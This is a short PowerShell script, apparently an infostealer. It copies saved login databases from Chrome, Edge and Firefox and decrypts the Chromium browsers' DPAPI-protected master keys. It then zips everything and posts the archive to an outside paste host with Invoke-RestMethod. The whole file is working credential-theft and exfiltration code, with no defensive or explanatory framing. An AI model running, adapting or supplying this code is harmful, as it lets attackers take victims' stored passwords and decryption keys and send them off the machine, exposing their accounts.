# collect saved browser logins and the DPAPI-protected key for offline decryption
Add-Type -AssemblyName System.Security

$loot = Join-Path -Path $env:TEMP -ChildPath ('cache_{0}' -f [guid]::NewGuid().ToString('N').Substring(0, 8))
New-Item -ItemType Directory -Path $loot | Out-Null

$profiles = @{
    Chrome = "$env:LOCALAPPDATA\Google\Chrome\User Data"
    Edge   = "$env:LOCALAPPDATA\Microsoft\Edge\User Data"
}

foreach ($browser in $profiles.Keys) {
    $root = $profiles[$browser]
    if (-not (Test-Path -Path $root)) { continue }
    Copy-Item -Path "$root\Default\Login Data" -Destination "$loot\$browser-logins.db" -ErrorAction SilentlyContinue
    $state = Get-Content -Path "$root\Local State" -Raw | ConvertFrom-Json
    $encKey = [Convert]::FromBase64String($state.os_crypt.encrypted_key)
    $dpapiBlob = $encKey[5..($encKey.Length - 1)]
    $key = [Security.Cryptography.ProtectedData]::Unprotect($dpapiBlob, $null, 'CurrentUser')
    [IO.File]::WriteAllBytes("$loot\$browser.key", $key)
}

Copy-Item -Path "$env:APPDATA\Mozilla\Firefox\Profiles\*\logins.json" -Destination $loot -ErrorAction SilentlyContinue
Compress-Archive -Path "$loot\*" -DestinationPath "$loot.zip"
Invoke-RestMethod -Uri 'https://paste.example.net/upload' -Method Post -InFile "$loot.zip"
